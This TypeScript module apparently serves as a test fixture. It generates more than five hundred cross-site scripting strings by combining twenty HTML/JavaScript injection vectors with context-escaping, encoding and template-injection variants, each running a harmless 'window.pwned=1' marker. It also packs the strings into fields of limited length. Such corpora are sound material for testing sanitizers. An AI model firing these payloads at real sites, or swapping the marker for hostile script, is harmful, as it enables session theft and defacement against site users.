const VECTORS = [
  '<script>MARK</script>',
  '<img src=x onerror=MARK>',
  '<svg onload=MARK>',
  '<svg><script>MARK</script></svg>',
  '<body onload=MARK>',
  '<iframe srcdoc="<script>MARK</script>"></iframe>',
  '<iframe src="javascript:MARK"></iframe>',
  '<a href="javascript:MARK">go</a>',
  '<details open ontoggle=MARK>',
  '<input autofocus onfocus=MARK>',
  '<video><source onerror=MARK></video>',
  '<math><mtext><script>MARK</script></mtext></math>',
  '<style>@import "javascript:MARK"</style>',
  '<object data="data:text/html,<script>MARK</script>"></object>',
  '<form action="javascript:MARK"><button>x</button></form>',
  '<base href="javascript:MARK//">',
  '<template><script>MARK</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=MARK>">',
  '<marquee onstart=MARK>',
  '<meta http-equiv=refresh content="0;url=javascript:MARK">',
] as const;

/** Each vector bare, after something that would end an attribute, a text, a comment or a script, and spelled otherwise. */
const CONTEXTS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</style></script>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => vector.toUpperCase().replaceAll('PWNED', 'pwned'),
  (vector) => `\\"};${vector}//`,
  (vector) => `%3C${vector.slice(1)}`,
  (vector) => `<xmp>${vector}`,
  (vector) => vector.replaceAll(' ', '/'),
  (vector) => vector.replaceAll(' ', '\t'),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '&#60;'),
  (vector) => encodeURIComponent(vector),
  (vector) => `\${${vector}}`,
  (vector) => `{{constructor.constructor('MARK')()}}${vector}`,
  (vector) => `javascript:/*--></title></style>${vector}`,
  (vector) => `${vector}${vector}`,
  (vector) => `‮${vector}`,
  (vector) => ` ${vector}\u00a0`,
  (vector) => `<<${vector}`,
  (vector) => `<x ${vector}`,
  (vector) => vector.replaceAll('>', ''),
  (vector) => `<!--${vector}`,
];

/** More than five hundred texts that a careless page would run. */
export const INJECTION_STRINGS: readonly string[] = CONTEXTS.flatMap((context) => VECTORS.map(context)).map((text) =>
  text.replaceAll('MARK', 'window.pwned=1'),
);

/** All of them, as many to a text as fit, a line each. */
export function packed(lengthMax: number): readonly string[] {
  return INJECTION_STRINGS.filter(({ length }) => length <= lengthMax).reduce<string[]>((texts, text) => {
    const joined = `${texts.at(-1) ?? ''}\n${text}`;
    return texts.length > 0 && joined.length <= lengthMax ? [...texts.slice(0, -1), joined] : [...texts, text];
  }, []);
}
